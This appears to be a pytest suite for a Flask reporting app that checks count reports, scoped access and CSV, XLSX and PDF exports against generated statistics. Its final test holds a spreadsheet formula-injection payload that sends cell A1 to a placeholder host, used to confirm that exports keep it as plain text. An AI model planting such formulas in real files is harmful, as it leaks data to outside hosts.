"""Hub web reports (R21, R26, R27): counts checked against an independent tally of generated
statistics records, and the CSV, XLSX and PDF exports read back."""

from __future__ import annotations

import io
from collections import Counter
from pathlib import Path

import openpyxl
import pytest
from flask import Flask

from fieldkit.hub.web.counts import ReportTable
from fieldkit.hub.web.exports import pdf_font, to_csv, to_xlsx
from fieldkit.hub.web.text import CATALOGUE
from tests.hubkit import MUNICIPALITY
from tests.hubweb import (
    COUNTED,
    OTHER_MUNICIPALITY,
    OUTCOME_COLUMNS,
    ClientFactory,
    csrf_token,
    generated_statistics,
    municipality_label,
    pdf_text,
    read_csv,
    store_statistics,
)

N = 400

MODE_LABELS = {m: CATALOGUE.say(f"mode.{m}", "ja") for m in ("support", "reception")}


@pytest.fixture
def statistics(web_app: Flask) -> list[dict[str, str]]:
    rows = generated_statistics(N)
    store_statistics(web_app, rows)
    return rows


def expected_by(rows: list[dict[str, str]], key: str) -> dict[str, list[int]]:
    """The report's table computed here without SQL: [applied, forwarded, declined, abandoned,
    total], municipalities by name."""
    tally: dict[str, Counter[str]] = {}
    for row in rows:
        value = row["date"][:7] if key == "month" else row[key]
        if key == "municipality":
            value = municipality_label(value)
        tally.setdefault(value, Counter())[row["outcome"]] += 1
    return {value: [*(c[o] for o in COUNTED), sum(c.values())] for value, c in tally.items()}


@pytest.mark.parametrize(
    ("report", "key"),
    [("site", "site"), ("municipality", "municipality"), ("day", "date"), ("month", "month")],
)
def test_counts_match_an_independent_tally(
    client_as: ClientFactory, statistics: list[dict[str, str]], report: str, key: str
) -> None:
    """R21: counts by site, municipality of residence, day and month."""
    client = client_as("admin")
    response = client.get(f"/reports/counts/{report}.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    table = read_csv(response.data)
    assert table[0][1:] == OUTCOME_COLUMNS
    body = {row[0]: [int(v) for v in row[1:]] for row in table[1:-1]}
    assert body == expected_by(statistics, key)
    assert table[-1] == ["合計", *map(str, expected_by_total(statistics))]
    # The page shows the same table.
    page = client.get(f"/reports/counts/{report}").get_data(as_text=True)
    assert str(expected_by_total(statistics)[-1]) in page


def test_dashboard_charts_show_the_tally_and_respect_the_scope(
    client_as: ClientFactory, statistics: list[dict[str, str]]
) -> None:
    """R21: the dashboard's charts (applications per day, by municipality of residence) show
    the independently tallied numbers; a municipality user's charts hold only their code."""
    applied = [r for r in statistics if r["outcome"] == "applied"]
    page = client_as("admin").get("/").get_data(as_text=True)
    by_municipality = Counter(r["municipality"] for r in applied)
    for code, n in by_municipality.most_common(10):
        assert f"<title>{municipality_label(code)}: {n}</title>" in page
    by_day = Counter(r["date"] for r in applied)
    latest = max(by_day)
    assert f"<title>{latest}: {by_day[latest]}</title>" in page
    scoped = client_as("chiyoda").get("/").get_data(as_text=True)
    mine = municipality_label(MUNICIPALITY)
    assert f"<title>{mine}: {by_municipality[MUNICIPALITY]}</title>" in scoped
    assert f"<title>{municipality_label(OTHER_MUNICIPALITY)}:" not in scoped


def expected_by_total(rows: list[dict[str, str]]) -> list[int]:
    c = Counter(r["outcome"] for r in rows)
    return [*(c[o] for o in COUNTED), len(rows)]


def test_sex_by_age_band_counts_applications(
    client_as: ClientFactory, statistics: list[dict[str, str]]
) -> None:
    """R21: applications by sex and age band, as an XLSX read back with openpyxl."""
    response = client_as("admin").get("/reports/counts/sex-age.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0][0] == "性別・年代別申請件数"
    assert rows[2][:6] == ["年代", "女性", "男性", "その他", "不明", "合計"]
    tally = Counter((r["age_band"], r["sex"]) for r in statistics if r["outcome"] == "applied")
    sexes = ("female", "male", "other", "unknown")
    got = {r[0]: r[1:6] for r in rows[3:-1]}
    named = {"0-14": "0〜14歳", "15-64": "15〜64歳", "65-74": "65〜74歳", "75+": "75歳以上"}
    expected = {
        named.get(band, "不明"): [
            *(tally[(band, s)] for s in sexes),
            sum(tally[(band, s)] for s in sexes),
        ]
        for band in {b for b, _ in tally}
    }
    assert got == expected
    assert list(got) == ["0〜14歳", "15〜64歳", "65〜74歳", "75歳以上", "不明"]  # age order
    assert rows[-1][5] == sum(tally.values())


def test_date_range_filters(client_as: ClientFactory, statistics: list[dict[str, str]]) -> None:
    client = client_as("auditor")
    table = read_csv(client.get("/reports/counts/month.csv?from=2026-09-01&to=2026-09-30").data)
    assert [row[0] for row in table[1:-1]] == ["2026-09"]
    september = [r for r in statistics if r["date"].startswith("2026-09")]
    assert int(table[1][-1]) == len(september)
    assert client.get("/reports/counts/site.csv?from=yesterday").status_code == 400
    assert client.get("/reports/counts/nothing.csv").status_code == 404
    assert client.get("/reports/counts/site.docx").status_code == 404


def test_municipality_user_sees_only_their_counts(
    client_as: ClientFactory, statistics: list[dict[str, str]]
) -> None:
    """R23: a municipality user's counts are their residents' only; asking for another
    municipality's counts or reports is a 403."""
    client = client_as("chiyoda")
    table = read_csv(client.get("/reports/counts/municipality.csv").data)
    assert [row[0] for row in table[1:-1]] == [municipality_label(MUNICIPALITY)]
    mine = [r for r in statistics if r["municipality"] == MUNICIPALITY]
    assert int(table[-1][-1]) == len(mine) < N
    site = read_csv(client.get("/reports/counts/site.csv").data)
    assert site[1:-1] and int(site[-1][-1]) == len(mine)
    for path in (
        f"/reports/counts/site.csv?municipality={OTHER_MUNICIPALITY}",
        f"/reports/counts/municipality?municipality={MUNICIPALITY},{OTHER_MUNICIPALITY}",
        f"/?municipality={OTHER_MUNICIPALITY}",
        "/reports/completion.pdf",
        "/reports/monthly/2026-08.csv",
    ):
        assert client.get(path).status_code == 403, path
    # The admin sees every municipality (the same request, unscoped).
    admin = read_csv(client_as("admin").get("/reports/counts/municipality.csv").data)
    assert int(admin[-1][-1]) == N


def test_pdf_has_japanese_text_and_the_counts(
    client_as: ClientFactory, statistics: list[dict[str, str]], tmp_path: Path
) -> None:
    """R27: the PDF carries Japanese headings (IPAexGothic embedded) and the right counts."""
    response = client_as("admin").get("/reports/counts/site.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    assert b"IPAexGothic" in response.data
    text = pdf_text(response.data, tmp_path)
    assert "会場別件数" in text and "合計" in text
    for site, counts in expected_by(statistics, "site").items():
        line = next(line for line in text.splitlines() if line.strip().startswith(site))
        assert line.split()[1:] == [str(c) for c in counts]


def test_pdf_fallback_font(tmp_path: Path) -> None:
    """Without the IPAex file the PDF uses the built-in CID font and still reads back."""
    from fieldkit.hub.web.counts import ReportTable
    from fieldkit.hub.web.exports import to_pdf

    missing = tmp_path / "no-such-font.ttf"
    assert pdf_font(missing) == "HeiseiKakuGo-W5"
    body = to_pdf([ReportTable("会場別件数", ["会場", "件数"], [["公民館", 3]])], "t", missing)
    assert "会場別件数" in pdf_text(body, tmp_path)


def test_completion_monthly_and_work_log(
    web_app: Flask, client_as: ClientFactory, statistics: list[dict[str, str]], tmp_path: Path
) -> None:
    """R19, R21, R26, R27: a visit's work log, the monthly report and the 様式4 draft."""
    admin = client_as("admin")
    token = csrf_token(admin, "/sites")
    admin.post(
        "/sites/facilities",
        data={
            "name": "公民館",
            "kind": "public",
            "municipality": MUNICIPALITY,
            "csrf_token": token,
        },
    )
    for operator in ("op-lead", "op-two"):
        admin.post(
            "/operators",
            data={
                "operator_id": operator,
                "name": "担当",
                "duty": "handler",
                "password": "long enough password",
                "csrf_token": token,
            },
        )
    visit = {
        "facility_id": "1",
        "date": "2026-08-03",
        "kind": "application-support",
        "device_id": "tab-a",
        "lead": "op-lead",
        "staff": "op-two",
        "start_time": "09:00",
        "end_time": "16:00",
        "incidents": "",
        "csrf_token": token,
    }
    assert admin.post("/sites/visits", data=visit).status_code == 302
    log = read_csv(admin.get("/reports/worklog/1.csv").data)
    flat = [cell for row in log for cell in row]
    assert "業務日誌 2026-08-03" in flat
    assert "op-lead 担当" in flat and "op-lead 担当, op-two 担当" in flat  # ids with names
    on_day = [r for r in statistics if r["device_id"] == "tab-a" and r["date"] == "2026-08-03"]
    assert sum(int(row[5]) for row in log if row and row[0] in MODE_LABELS.values()) == len(on_day)

    month = openpyxl.load_workbook(io.BytesIO(admin.get("/reports/monthly/2026-08.xlsx").data))
    assert len(month.worksheets) == 5  # visits, by site, by municipality, erasure, incidents
    assert month.worksheets[0]["A4"].value == "2026-08-03"
    august = [r for r in statistics if r["date"].startswith("2026-08")]
    assert month.worksheets[1].cell(month.worksheets[1].max_row, 6).value == len(august)
    assert admin.get("/reports/monthly/2026-13").status_code == 400

    text = pdf_text(admin.get("/reports/completion.pdf").data, tmp_path)
    assert "完了報告書（様式4）実績" in text
    days_line = next(line for line in text.splitlines() if "申請サポート実施日数" in line)
    assert days_line.split()[-1] == "1"
    assert str(N) in text


def test_exported_text_never_becomes_a_formula() -> None:
    """Issue 17: a site name typed as "=HYPERLINK(…)" stays text in the CSV and the XLSX a
    municipality opens; without the protection openpyxl would store it as a formula."""
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    table = ReportTable(
        title="visits", note="", columns=["site", "count"], rows=[[hostile, 3], ["-1+1", 1]]
    )
    rows = read_csv(to_csv([table]))
    assert rows[1] == ["'" + hostile, "3"] and rows[2] == ["'-1+1", "1"]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([table]))).worksheets[0]
    assert sheet["A4"].value == hostile and sheet["A4"].data_type == "s"
    assert sheet["B4"].value == 3
    raw = openpyxl.Workbook()
    raw.active.append([hostile])  # the protection off: what openpyxl does by itself
    assert raw.active["A1"].data_type == "f"
